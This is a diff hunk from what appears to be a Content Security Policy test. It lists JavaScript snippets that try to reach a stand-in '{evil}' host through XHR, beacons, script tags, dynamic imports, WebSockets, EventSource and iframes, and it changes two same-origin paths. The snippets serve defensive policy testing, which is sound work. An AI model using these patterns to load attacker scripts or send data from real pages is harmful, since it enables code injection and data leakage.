@@ -155,14 +155,14 @@ ATTEMPTS = {
     "fetch of ours": "await fetch('/api/v1/sessions')",
     "request": "await new Promise((r, j) => { const x = new XMLHttpRequest(); x.onload = r; x.onerror = j; x.open('GET', '{evil}/xhr'); x.send(); })",
     "beacon": "navigator.sendBeacon('{evil}/beacon'); throw Error()",
-    "image of ours": "await new Promise((r, j) => { const i = new Image(); i.onload = r; i.onerror = j; i.src = '/static/css/mark.svg'; })",
+    "image of ours": "await new Promise((r, j) => { const i = new Image(); i.onload = r; i.onerror = j; i.src = '/static/images/logo.svg'; })",
     "script": "await new Promise((r, j) => { const s = document.createElement('script'); s.onload = r; s.onerror = j; s.src = '{evil}/s.js'; document.body.append(s); })",
     "module": "await import('{evil}/m.js')",
     "worker": "await new Promise((r, j) => { const w = new Worker(URL.createObjectURL(new Blob(['1']))); w.onmessage = r; w.onerror = j; })",
     "socket": "await new Promise((r, j) => { const s = new WebSocket('{evil}/ws'.replace('http', 'ws')); s.onopen = r; s.onerror = j; })",
     "events": "await new Promise((r, j) => { const s = new EventSource('{evil}/sse'); s.onopen = r; s.onerror = j; })",
     "eval": "eval('1')",
-    "service worker": "await navigator.serviceWorker.register('/static/js/page.js')",
+    "service worker": "await navigator.serviceWorker.register('/static/js/pages/base.js')",
     "frame": "await new Promise((r, j) => { const f = document.createElement('iframe'); f.src = '{evil}/frame'; document.addEventListener('securitypolicyviolation', j); document.body.append(f); })",
 }
 MARKUP = (
